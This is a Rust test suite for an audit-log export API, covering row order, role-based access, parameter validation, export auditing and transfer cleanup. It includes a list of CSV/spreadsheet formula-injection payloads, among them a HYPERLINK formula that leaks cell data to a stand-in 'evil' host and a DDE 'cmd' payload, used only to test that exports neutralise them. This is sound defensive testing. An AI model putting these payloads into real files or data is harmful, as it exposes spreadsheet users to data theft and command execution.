//! `GET export`: the same set as the list, for whoever may have it, in each format. Deliberately absent: the viewer's way to
//! it (`viewer::export`), and other programs' reading of it (`spreadsheets`).

use std::io::Read;
use std::time::{Duration, Instant};

use calamine::{Data, Reader, Xlsx};
use serde_json::{Value, json};

use crate::server::{Server, event, query};

const ORG: &str = "/v1/organizations/acme";

/// Values that a spreadsheet would obey, that CSV has to quote, or that end lines (H of the hostile list).
const HOSTILE: &[&str] = &[
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "=HYPERLINK(\"http://evil?\"&A1)",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "\n=1+1",
    "\u{feff}=1+1",
    "\u{200b}@x",
    "a;=1+1;b",
    "a\n=1+1",
    "quote \" and, comma",
    "one\r\ntwo",
    "",
    "'=1+1",
    "plain",
    "_x0041_",
    "\u{202e}turned",
    "\u{1b}[2J",
];

/// The bytes of an export.
pub fn download(server: &Server, path: &str, key: &str) -> Result<Vec<u8>, ureq::Error> {
    let request = ureq::get(server.url(path)).header("Authorization", format!("Bearer {key}"));
    let mut answer = request.call()?;
    answer.body_mut().with_config().limit(1 << 30).read_to_vec()
}

/// The records of a CSV file, header first; every line must have as many cells.
pub fn records(bytes: &[u8]) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

pub fn allow(server: &Server, org: &str, key: &str, formats: &Value) {
    let settings = json!({"settings": {"export": formats}}).to_string();
    let path = format!("/v1/organizations/{org}");
    let answer = server.send("PATCH", &path, key, Some(settings.as_bytes()), "application/json");
    assert_eq!(answer.status, 200, "{answer:?}");
}

/// The list, page by page.
fn list(server: &Server, filters: &[(&str, &str)], token: &str) -> Vec<Value> {
    let mut listed = Vec::new();
    let mut asked = [filters, &[("limit", "7")]].concat();
    let mut cursor;
    loop {
        let page = server.get(&format!("{ORG}/events{}", query(&asked)), token);
        assert_eq!(page.status, 200, "{page:?}");
        listed.extend(page.body["data"].as_array().unwrap().iter().cloned());
        match page.body["next"].as_str() {
            Some(next) => cursor = next.to_owned(),
            None => return listed,
        }
        asked = vec![("cursor", cursor.as_str()), ("limit", "7")];
    }
}

/// Thirty events by several people, with ties in time, for both audiences where the profile has them.
fn fill(server: &Server, key: &str, profile: &str) {
    let events: Vec<Value> = (0..30)
        .map(|at| {
            let audience = if profile == "platform" && at % 3 == 0 { "administrators" } else { "organization" };
            let action = ["document.created", "document.deleted", "lead.created"][at % 3];
            json!({
                "id": format!("e-{at}"), "action": action,
                "occurred_at": format!("2026-11-{:02}T10:00:00.{:03}Z", 1 + at / 2, at / 4),
                "actor": {"type": "user", "id": format!("u_{}", at % 4), "name": format!("Name {}", at % 4), "email": format!("u{}@acme.example", at % 4)},
                "targets": [{"type": "document", "id": format!("d-{at}"), "name": format!("Paper {at}")}],
                "audience": audience, "context": {"ip": format!("203.0.113.{}", at % 5)}, "metadata": {"at": at},
            })
        })
        .collect();
    let answer = server.post(&format!("{ORG}/events"), key, &json!(events));
    assert_eq!(answer.body["created"], events.len(), "{answer:?}");
}

/// L18, D17: what is exported is what is listed: the set, the order and the figure, for every profile, role and query.
#[test]
fn an_export_is_the_list_in_its_order_for_every_profile_and_role() {
    for (profile, roles) in [
        ("documents", &["user"][..]),
        ("workspace", &["owner", "admin"]),
        ("signing", &["user"]),
        ("platform", &["company", "regular", "administrator"]),
    ] {
        let server = Server::start();
        let key = server.tenant("acme", profile);
        fill(&server, &key, profile);
        allow(&server, "acme", &key, &json!(["csv", "jsonl", "xlsx"]));
        let mut readers = vec![key.clone()];
        readers.extend(roles.iter().map(|role| server.session("acme", &key, "u_1", role)));
        for token in readers {
            for filters in [
                &[][..],
                &[("q", "paper")],
                &[("kind", "deleted"), ("q", "u1@acme.example")],
                &[("actor", "u_1"), ("from", "2026-11-03"), ("to", "2026-11-09")],
                &[("sort", "time")],
                &[("sort", "actor")],
                &[("sort", "-ip")],
                &[("sort", "action"), ("target_type", "document")],
                &[("q", "nothing-like-this")],
            ] {
                same_as_list(&server, filters, &token);
            }
        }
        server.check_log();
    }
}

fn same_as_list(server: &Server, filters: &[(&str, &str)], token: &str) {
    let listed = list(server, filters, token);
    let total = server.get(&format!("{ORG}/events/total{}", query(filters)), token).body["total"].clone();
    assert_eq!(total, listed.len(), "{filters:?}");
    let export = |more: &[(&str, &str)]| {
        let path = format!("{ORG}/export{}", query(&[filters, more].concat()));
        download(server, &path, token).unwrap()
    };
    let lines = export(&[("format", "jsonl")]);
    let lines: Vec<Value> = lines
        .split_inclusive(|byte| *byte == b'\n')
        .map(|line| serde_json::from_slice(line).unwrap())
        .collect();
    assert_eq!(lines, listed, "{filters:?}");
    let full = records(&export(&[("format", "csv"), ("columns", "full"), ("raw", "true")]));
    let id = full[0].iter().position(|title| title == "id").unwrap();
    let ids: Vec<_> = full[1..].iter().map(|cells| cells[id].as_str()).collect();
    assert_eq!(ids, listed.iter().map(|event| event["id"].as_str().unwrap()).collect::<Vec<_>>());
    let is_restricted = listed.first().is_some_and(|event| event.get("seq").is_none());
    assert!(!(is_restricted && full[0].iter().any(|title| title == "seq" || title == "cause")));
    let words = records(&export(&[]));
    assert_eq!(words.len() - 1, listed.len());
    let remarks =
        words[0].iter().position(|title| ["Remarks", "Description"].contains(&title.as_str())).unwrap();
    for (cells, event) in words[1..].iter().zip(&listed) {
        assert_eq!(cells[remarks], event["description"].as_str().unwrap());
    }
    let book = sheet(&export(&[("format", "xlsx")]), 0);
    assert_eq!(book.len() - 1, listed.len());
    for (row, event) in book[1..].iter().zip(&listed) {
        assert_eq!(row[remarks], Data::String(event["description"].as_str().unwrap().to_owned()));
    }
}

/// The rows of a sheet.
pub fn sheet(bytes: &[u8], at: usize) -> Vec<Vec<Data>> {
    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range_at(at).unwrap().unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

/// L05, L08, L18, L22, L23: the profile's titles; name and e-mail; labels as this reader reads them; dates in its zone.
#[test]
fn the_default_columns_speak_as_the_screen_does() {
    let server = Server::start();
    let key = server.tenant("acme", "documents");
    let sent = json!([
        {"action": "document.signed", "occurred_at": "2025-12-15T15:54:07.250Z", "description": "Signed it",
            "actor": {"type": "user", "id": "u_1", "name": "Ana Ruiz", "email": "ana@acme.example"}},
        {"action": "document.signed", "occurred_at": "2025-12-15T15:53:00Z", "description": "Tried it", "outcome": "failure",
            "actor": {"type": "user", "id": "u_2", "name": "Bo"}, "on_behalf_of": {"type": "user", "id": "u_1", "name": "Ana Ruiz"}},
        {"action": "document.deleted", "occurred_at": "2025-12-15T15:52:00Z", "description": "Too late", "actor": {"type": "system"}},
    ]);
    assert_eq!(server.post(&format!("{ORG}/events"), &key, &sent).body["created"], 3);
    let ana = server.session("acme", &key, "u_1", "user");
    let bytes = download(&server, &format!("{ORG}/export?tz=Asia/Kolkata"), &ana).unwrap();
    assert!(bytes.starts_with(b"\xef\xbb\xbfDate,Remarks,User,Report Type\r\n"));
    let rows = records(&bytes);
    assert_eq!(rows[1], ["2025-12-15 21:24:07", "Signed it", "Ana Ruiz <ana@acme.example>", "You Signed"]);
    assert_eq!(rows[2][2..], ["Bo for Ana Ruiz", "Invitation Sign · failed"]);
    assert_eq!(rows[3][2], "System");
    // A key is nobody in particular.
    let key_rows = records(&download(&server, &format!("{ORG}/export"), &key).unwrap());
    assert_eq!(key_rows[1][3], "Invitation Sign");
}

/// L19 and H of the hostile list: no cell is a formula, and what is quoted comes back as it was; raw is byte for byte.
#[test]
fn hostile_values_are_harmless_in_csv_and_exact_in_raw() {
    let server = Server::start();
    let key = server.tenant("acme", "documents");
    for value in HOSTILE {
        let mut sent = event("document.created");
        sent["reason"] = json!(value);
        sent["metadata"] = json!({"=cmd|x": value});
        assert_eq!(server.post(&format!("{ORG}/events"), &key, &sent).status, 201, "{value:?}");
    }
    let column = |raw: &str| -> Vec<String> {
        let path = format!("{ORG}/export?columns=full&sort=time&raw={raw}");
        let bytes = download(&server, &path, &key).unwrap();
        assert_eq!(bytes.starts_with(b"\xef\xbb\xbf"), raw == "false");
        assert!(bytes.ends_with(b"\r\n"));
        let rows = records(&bytes);
        let reason = rows[0].iter().position(|title| title == "reason").unwrap();
        rows[1..].iter().map(|cells| cells[reason].clone()).collect()
    };
    assert_eq!(column("true"), HOSTILE);
    for (value, safe) in HOSTILE.iter().zip(column("false")) {
        assert_eq!(safe.replace('\'', ""), value.replace('\'', ""), "nothing but the mark is added");
        for piece in safe.split([';', '\n']) {
            let seen = piece.trim_start_matches(|c: char| {
                c.is_whitespace() || c.is_control() || ['\u{feff}', '\u{200b}'].contains(&c)
            });
            assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']), "{value:?} -> {safe:?}");
        }
        assert!(!safe.starts_with(['\t', '\r']), "{value:?}");
    }
    let book = sheet(
        &download(&server, &format!("{ORG}/export?format=xlsx&columns=full&sort=time"), &key).unwrap(),
        0,
    );
    let reason = book[0].iter().position(|title| *title == Data::String("reason".to_owned())).unwrap();
    for (row, value) in book[1..].iter().zip(HOSTILE).filter(|(_, value)| !value.is_empty()) {
        // XML makes one line break of two.
        assert_eq!(row[reason].to_string().replace("\r\n", "\n"), value.replace("\r\n", "\n"));
    }
}

/// H of the hostile list: a line break inside a value ends no line.
#[test]
fn a_value_with_line_breaks_stays_on_one_line_of_json_lines() {
    let server = Server::start();
    let key = server.tenant("acme", "documents");
    let mut sent = event("document.created");
    sent["reason"] = json!("one\ntwo\r\nthree\u{2028}four");
    server.post(&format!("{ORG}/events"), &key, &sent);
    let bytes = download(&server, &format!("{ORG}/export?format=jsonl"), &key).unwrap();
    assert_eq!(bytes.iter().filter(|byte| **byte == b'\n').count(), 1);
    assert_eq!(serde_json::from_slice::<Value>(&bytes).unwrap()["reason"], sent["reason"]);
}

/// C19: what sessions may take away the settings say, else the profile; keys always may.
#[test]
fn sessions_export_what_the_settings_allow_and_keys_everything() {
    let server = Server::start();
    let key = server.tenant("acme", "workspace");
    let owner = server.session("acme", &key, "u_1", "owner");
    let status =
        |token: &str, format: &str| server.get(&format!("{ORG}/export?format={format}"), token).status;
    for format in ["csv", "jsonl", "xlsx"] {
        server
            .get(&format!("{ORG}/export?format={format}"), &owner)
            .assert_problem(403, "export_not_allowed");
        assert_eq!(status(&key, format), 200);
    }
    server.get(&format!("{ORG}/export"), &owner).assert_problem(403, "export_not_allowed");
    allow(&server, "acme", &key, &json!(["xlsx"]));
    assert_eq!(["csv", "jsonl", "xlsx"].map(|format| status(&owner, format)), [403, 403, 200]);
    server.organization("globex", "platform");
    let globex = server.key("globex", &["read", "admin"]);
    let company = server.session("globex", &globex, "u_1", "company");
    let path = "/v1/organizations/globex/export?format=jsonl";
    assert_eq!(server.get(path, &company).status, 200);
    allow(&server, "globex", &globex, &json!([]));
    server.get(path, &company).assert_problem(403, "export_not_allowed");
    let write_only = server.key("acme", &["write"]);
    server.get(&format!("{ORG}/export"), &write_only).assert_problem(403, "forbidden");
}

#[test]
fn a_bad_parameter_is_named_and_nothing_is_recorded() {
    let server = Server::start();
    let key = server.tenant("acme", "documents");
    let size = server.size("acme");
    for (asked, named) in [
        ("limit=5", "limit"),
        ("cursor=abc", "cursor"),
        ("skip=1", "skip"),
        ("format=parquet", "format"),
        ("format=", ""),
        ("format=csv&format=jsonl", "format"),
        ("columns=some", "columns"),
        ("raw=yes", "raw"),
        ("raw=true&format=xlsx", "raw"),
        ("raw=true&format=jsonl", "raw"),
        ("raw=true&format=bundle", "raw"),
        ("since=1", "since"),
        ("since=9&format=bundle", "since"),
        ("colums=full", "colums"),
        ("q=%22open", "q"),
        ("from=2026-02-01&to=2026-01-01", "to"),
        ("tz=Nowhere/Land", "tz"),
    ] {
        let answer = server.get(&format!("{ORG}/export?{asked}"), &key);
        if named.is_empty() {
            assert_eq!(answer.status, 200);
            continue;
        }
        answer.assert_problem(400, "invalid_parameter");
        assert_eq!(answer.body["errors"][0]["pointer"], named, "{asked}");
    }
    let formats = server.get(&format!("{ORG}/export?format=parquet"), &key);
    assert!(formats.text.contains("csv, xlsx, jsonl, bundle"), "{}", formats.text);
    assert_eq!(server.size("acme"), size + 1, "the one that was answered");
}

/// The log may grow while one exports, and `size` asks for it as it was; a restricted reader may not ask.
#[test]
fn an_export_holds_what_was_there_when_it_was_asked_for() {
    let server = Server::start();
    let key = server.tenant("acme", "platform");
    fill(&server, &key, "platform");
    let lines = |asked: &str, token: &str| {
        let bytes = download(&server, &format!("{ORG}/export?format=jsonl&{asked}"), token).unwrap();
        bytes.iter().filter(|byte| **byte == b'\n').count()
    };
    assert_eq!((lines("size=12", &key), lines("", &key)), (12, 30));
    let company = server.session("acme", &key, "u_1", "company");
    server.get(&format!("{ORG}/export?size=12"), &company).assert_problem(400, "invalid_parameter");
    // The export that is made is not in itself.
    assert_eq!(lines("category=Access", &key), 3, "two exports and a session");
}

/// An export is an event itself, recorded before its first byte, and left out of lists unless asked for.
#[test]
fn an_export_is_recorded_with_what_was_asked_and_by_whom() {
    let server = Server::start();
    let key = server.tenant("acme", "documents");
    fill(&server, &key, "documents");
    let ana = server.session("acme", &key, "u_1", "user");
    let head = server.send("HEAD", &format!("{ORG}/export"), &key, None, "");
    assert_eq!(
        (head.status, head.headers["content-type"].to_str().unwrap()),
        (200, "text/csv; charset=utf-8")
    );
    let name = head.headers["content-disposition"].to_str().unwrap();
    assert!(name.starts_with("attachment; filename=\"acme-activity-logs-20"), "{name}");
    assert!(name.contains("filename*=UTF-8''The%20acme%20Activity%20Logs%2020"), "{name}");
    let named = |query: &str| {
        let head = server.send("HEAD", &format!("{ORG}/export?{query}"), &key, None, "");
        head.headers["content-disposition"].to_str().unwrap().to_owned()
    };
    assert!(name.contains("-UTC.csv\"") && name.ends_with("%20UTC.csv"), "the zone of its times: {name}");
    assert!(named("tz=America/New_York").contains("-America-New_York.csv\""));
    assert!(!named("format=jsonl").contains("UTC"), "there every time says its own");
    download(&server, &format!("{ORG}/export?q=%22Paper%201%22%20%2B&columns=full"), &ana).unwrap();
    let made = server.get(&format!("{ORG}/events?category=Access&action=export.made"), &key);
    let made = made.body["data"].as_array().unwrap();
    assert_eq!(made.len(), 1, "looking at the head is no export");
    assert_eq!((&made[0]["actor"]["id"], &made[0]["actor"]["role"]), (&json!("u_1"), &json!("user")));
    let told = &made[0]["metadata"];
    assert_eq!((&told["format"], &told["columns"]), (&json!("csv"), &json!("full")));
    assert_eq!(told["query"], "q=%22Paper%201%22%20%2B");
    assert_eq!((told["count"].as_u64(), told["size"].as_u64()), (Some(1), Some(31)));
    let listed = server.get(&format!("{ORG}/events/total"), &key);
    assert_eq!(listed.body["total"], 30);
    assert_eq!(list(&server, &[("q", "export.made")], &key).len(), 0);
    server.check_log();
}

/// How many exports are being made, as operators see it.
fn open(server: &Server) -> u64 {
    let metrics = server.get("/metrics", "").text;
    metrics.lines().find_map(|line| line.strip_prefix("everlog_exports_open ")).unwrap().parse().unwrap()
}

fn fill_many(server: &Server, key: &str, count: usize) {
    for group in (0..count).collect::<Vec<_>>().chunks(1_000) {
        let events: Vec<Value> = group
            .iter()
            .map(|at| {
                let mut sent = event("document.created");
                sent["metadata"] = json!({"at": at, "text": "x".repeat(400)});
                sent
            })
            .collect();
        assert_eq!(server.post(&format!("{ORG}/events"), key, &json!(events)).body["created"], group.len());
    }
}

/// H of the hostile list: who goes away in the middle leaves nothing behind.
#[test]
fn an_export_that_is_given_up_frees_what_it_held() {
    let server = Server::start();
    let key = server.tenant("acme", "documents");
    fill_many(&server, &key, 20_000);
    for format in ["jsonl", "csv", "xlsx"] {
        let path = server.url(&format!("{ORG}/export?columns=full&format={format}"));
        let answer = ureq::get(path).header("Authorization", format!("Bearer {key}")).call().unwrap();
        let mut body = answer.into_body().into_reader();
        if format != "xlsx" {
            body.read_exact(&mut [0; 1024]).unwrap();
        }
        assert_eq!(open(&server), 1, "{format} is being made");
        drop(body);
        let given_up = Instant::now();
        while open(&server) > 0 {
            assert!(given_up.elapsed() < Duration::from_secs(30), "{format} is still held");
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    let left: Vec<_> = std::fs::read_dir(server.directory.path().join("data")).unwrap().flatten().collect();
    let known = [
        "truth.db",
        "truth.db-wal",
        "truth.db-shm",
        "lock",
        "index",
        "blobs",
        "signed",
        "log.key",
        "seal.key",
        "operator.key",
    ];
    let strange: Vec<_> =
        left.iter().map(|it| it.file_name()).filter(|name| !known.iter().any(|it| name == it)).collect();
    assert!(strange.is_empty(), "{strange:?}");
}

/// An event that cannot be read in the middle must not leave a file that looks whole.
#[test]
fn a_fault_in_the_middle_breaks_the_transfer() {
    let server = Server::start();
    let key = server.tenant("acme", "documents");
    fill_many(&server, &key, 3_000);
    let path = server.directory.path().join("data").join("truth.db");
    let truth = rusqlite::Connection::open(path).unwrap();
    let changed = truth.execute("update events set body = x'00' where id in (select id from events order by id limit 1 offset 700)", []).unwrap();
    assert_eq!(changed, 1);
    for format in ["csv", "jsonl", "xlsx"] {
        let broken = download(&server, &format!("{ORG}/export?format={format}"), &key);
        assert!(broken.is_err(), "{format}: {:?}", broken.map(|bytes| bytes.len()));
        // What lies in front of the fault is still to be had.
        let whole = download(&server, &format!("{ORG}/export?format={format}&size=600"), &key);
        assert!(whole.is_ok(), "{format}");
    }
}
